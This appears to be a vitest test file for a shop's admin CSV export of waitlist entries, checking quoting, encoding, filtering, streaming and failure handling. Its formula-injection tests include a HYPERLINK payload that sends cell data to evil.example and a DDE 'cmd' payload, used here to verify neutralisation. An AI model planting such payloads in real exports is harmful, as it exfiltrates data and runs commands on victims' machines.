import Papa from 'papaparse'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { waitlist } from '#drizzle/schema/messages.ts'
import { waitlistEntry } from '#tests/support/message-rows.ts'
import { openTestShop, type TestShop } from '#tests/support/shop.ts'
import { signIn } from '#tests/support/staff.ts'

let shop: TestShop
let admin: Awaited<ReturnType<typeof signIn>>

beforeAll(async () => {
  shop = await openTestShop()
  admin = await signIn(shop)
})
afterAll(() => shop.close())
beforeEach(async () => {
  await shop.db.delete(waitlist)
})

const add = (...entries: ReturnType<typeof waitlistEntry>[]) => shop.db.insert(waitlist).values(entries)
const request = async (query = '') =>
  shop.app.request(`/api/admin/waitlist/csv${query}`, { headers: { cookie: await admin.cookie() } })

/** The file's bytes as text, its mark included; and read again as a spreadsheet does. */
async function exported(query = '') {
  const response = await request(query)
  expect(response.status).toBe(200)
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
  const { data, errors } = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true })
  expect(errors).toEqual([])
  const [headings, ...rows] = data
  return { response, text, headings, rows }
}

const cellsOf = async (query = '') => (await exported(query)).rows

async function many(count: number) {
  await shop.client.execute({
    sql: `with recursive n(i) as (select 1 union all select i + 1 from n where i < ?)
      insert into waitlist (id, email, city, state, zip_code, story, unsubscribe_token, created_at)
      select 'many-' || i, 'p' || i || '@example.com', 'Oakland', 'CA', '94601', 'Story ' || i, 'token-' || i,
        '2026-06-04T19:0' || (i % 3) || ':00.000Z' from n`,
    args: [count],
  })
}

test('a file for spreadsheets: named by the day, UTF-8 with its mark, lines as RFC 4180 has them', async () => {
  await add(
    waitlistEntry({
      email: 'lee@example.com',
      city: 'Cañon City',
      state: 'CO',
      zipCode: '01901',
      story: 'I said "fine",\nand it was not.',
      contacted: true,
      createdAt: '2026-06-01T10:00:00.000Z',
      notifiedAt: '2026-06-02T10:00:00.000Z',
      unsubscribedAt: '2026-06-03T10:00:00.000Z',
    }),
    waitlistEntry({ email: 'kim@example.com', createdAt: '2026-06-01T09:00:00.000Z' }),
  )
  const { response, text } = await exported()
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(response.headers.get('content-disposition')).toBe('attachment; filename="waitlist-2026-06-04.csv"')
  expect(response.headers.get('cache-control')).toBe('no-store')
  expect(text).toBe(
    [
      '\u{FEFF}"Email","City","State","ZIP code","Story","Contacted","Added","Notified","Unsubscribed"',
      '"lee@example.com","Cañon City","CO","\'01901","I said ""fine"",\nand it was not.","yes","2026-06-01T10:00:00.000Z","2026-06-02T10:00:00.000Z","2026-06-03T10:00:00.000Z"',
      '"kim@example.com","Oakland","CA","94601","","no","2026-06-01T09:00:00.000Z","",""',
      '',
    ].join('\r\n'),
  )
})

test('the day in its name is the shop’s: in the evening of New York it is tomorrow in UTC', async () => {
  const before = shop.clock.at
  shop.clock.at = new Date('2026-06-05T03:30:00.000Z')
  expect((await request()).headers.get('content-disposition')).toContain('waitlist-2026-06-04.csv')
  shop.clock.at = before
})

test('a waitlist without entries gives the headings only', async () => {
  const { headings, rows } = await exported()
  expect([headings?.length, rows]).toEqual([9, []])
})

describe('a text that looks like a formula is written as text', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0\nand a second line",
    '  =1+1',
    '"\r\n=1+1',
  ])('%j', async (typed) => {
    await shop.client.execute({
      sql: `insert into waitlist (id, email, city, state, zip_code, story, unsubscribe_token, created_at)
        values ('w', ?, ?, 'CA', '94601', ?, 't', '2026-06-01T10:00:00.000Z')`,
      args: [`${typed}@x.y`, `${typed}x`, typed],
    })
    const { text, rows } = await exported()
    expect(rows).toHaveLength(1)
    for (const [at, original] of [
      [0, `${typed}@x.y`],
      [1, `${typed}x`],
      [4, typed],
    ] as const) {
      const cell = rows[0]?.[at] ?? ''
      expect([original, `'${original}`]).toContain(cell)
      // No cell begins with a sign that a spreadsheet may take for a formula.
      expect(cell.trimStart()).not.toMatch(/^[=+\-@|%＝＋－＠]/)
    }
    // Every cell is quoted, so that a line break or a comma ends none.
    expect(text.slice(1).split('\r\n')[0]).toMatch(/^("[^"]*",?){9}$/)
  })
})

test('holds what the filter lets through', async () => {
  await add(
    waitlistEntry({ email: 'a@x.y', contacted: true }),
    waitlistEntry({ email: 'b@x.y' }),
    waitlistEntry({ email: 'c@x.y', city: 'Boise', state: 'ID' }),
  )
  expect((await cellsOf('?contacted=no&q=oakland')).map(([email]) => email)).toEqual(['b@x.y'])
  expect((await cellsOf('?contacted=yes')).map(([email]) => email)).toEqual(['a@x.y'])
  expect((await request('?page=2')).status).toBe(422)
})

test.each([999, 1000, 1001, 2500])('%i people are all in it, each once, newest first', async (count) => {
  await many(count)
  const rows = await cellsOf()
  expect(new Set(rows.map(([email]) => email)).size).toBe(count)
  expect(rows).toHaveLength(count)
  const added = rows.map((cells) => cells[6] ?? '')
  expect(added).toEqual([...added].sort().reverse())
})

test('a person who joins meanwhile is not in the file, and displaces nobody', async () => {
  await many(1500)
  const response = await request()
  await add(waitlistEntry({ email: 'late@x.y', createdAt: '2026-06-05T00:00:00.000Z' }))
  const text = await response.text()
  expect(text).not.toContain('late@x.y')
  expect(text.split('\r\n')).toHaveLength(1500 + 2)
})

test('is read as fast as it is taken, and no further than that', async () => {
  await many(5000)
  const before = shop.requests()
  const reader = (await request()).body?.getReader()
  await reader?.read()
  // The guard, the page that was sent, and at most two that wait to be.
  expect(shop.requests() - before).toBeLessThanOrEqual(4)
  await reader?.cancel()
  const after = shop.requests()
  // Earlier calls to the database are done before these.
  for (let call = 0; call < 3; call++) await fetch(`${shop.databaseUrl}/health`)
  expect(shop.requests() - after).toBeLessThanOrEqual(1)
})

describe('a database that fails', () => {
  test('at once is an answer in words, not a file', async () => {
    const cookie = await admin.cookie()
    const { client } = shop
    const { execute } = client
    const failing = (...args: unknown[]) =>
      JSON.stringify(args).includes('waitlist')
        ? Promise.reject(new Error('no'))
        : Reflect.apply(execute, client, args)
    client.execute = failing as typeof execute
    const response = await shop.app.request('/api/admin/waitlist/csv', { headers: { cookie } })
    client.execute = execute
    expect([response.status, await response.json()]).toMatchObject([
      500,
      { error: { message: 'Failed to export the waitlist' } },
    ])
  })

  test('half way breaks the file off: nobody takes half of it for the whole', async () => {
    await many(5000)
    const response = await request()
    shop.setDatabaseFault({ kind: 'error' })
    await expect(response.text()).rejects.toThrow()
    shop.setDatabaseFault(null)
    expect(shop.logged).toContainEqual(expect.objectContaining({ level: 'error', event: 'export_failed' }))
  })
})
